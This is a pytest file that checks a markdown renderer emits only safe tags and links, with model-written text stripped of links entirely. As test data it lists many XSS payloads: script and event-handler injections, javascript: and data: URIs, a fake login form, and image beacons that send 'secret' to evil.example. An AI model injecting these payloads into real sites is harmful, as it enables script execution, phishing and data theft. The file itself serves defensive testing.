"""Whatever somebody or some model writes, what comes out is text, tables and lists, and nothing that acts."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest

from apps.core import markdown

TAGS = {
    "p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<p style='position:fixed;inset:0'>covers</p>",
    "<div class=modal id=login>fake</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<button onclick=alert(1) popovertarget=x>x</button>",
    "\x00<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java%0ascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "ftp://evil.example/",
    "ws://evil.example/",
    "tel:+1900",
    "intent://evil#Intent;end",
    "view-source:https://evil.example",
    "//evil.example/x",
    "/accounts/logout/",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://evil.example/",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    '[x]({} "title")',
    "[x][1]\n\n[1]: {}",
    "![x]({})",
    "[![x]({0})]({0})",
    "# [x]({})",
    "- [x]({})",
    "| a |\n| - |\n| [x]({}) |",
]
TRICKS = [
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/ 'a\" onmouseover=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "[x]: javascript:alert(1)\n\n[x]",
    '<https://ok.example/"><script>alert(1)</script>>',
    "[a](https://ok.example)<script>alert(1)</script>",
    ">" * 500 + "<script>alert(1)</script>",
    "[" * 2000 + "x",
    "*" * 5000,
    "![x](https://evil.example/pixel.png?data=secret)",
    "![x][p]\n\n[p]: https://evil.example/p.png",
]
CORPUS = [*RAW, *TRICKS, *(form.format(url) for form, url in itertools.product(FORMS, ADDRESSES))]


class Reader(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("declaration", {}))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.elements


def test_the_corpus_is_large() -> None:
    assert len(set(CORPUS)) >= 250


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_acts_comes_out(text: str) -> None:
    for tag, attributes in elements(markdown.render(text)):
        assert tag in TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set()), (tag, attributes)
        if "href" in attributes:
            assert re.match(r"https://|mailto:", attributes["href"] or ""), attributes
            assert attributes["rel"] == "nofollow noopener noreferrer"


@pytest.mark.parametrize("text", CORPUS)
def test_of_a_model_nothing_can_be_followed_either(text: str) -> None:
    for tag, attributes in elements(markdown.render_foreign(text)):
        assert tag in TAGS - {"a"}
        assert attributes == {}


def test_a_models_link_shows_where_it_leads() -> None:
    html = markdown.render_foreign('Read [the terms](https://ok.example/t?a=1&b=2 "x") **now**.')
    assert html == "<p>Read the terms (https://ok.example/t?a=1&amp;b=2) <strong>now</strong>.</p>\n"
    assert markdown.render_foreign("<https://ok.example>") == "<p>https://ok.example</p>\n"
    assert markdown.render_foreign("# A\n\n- b\n- `c`") == markdown.render("# A\n\n- b\n- `c`")


def test_people_keep_their_links() -> None:
    assert 'href="https://ok.example/"' in markdown.render("[x](https://ok.example/)")
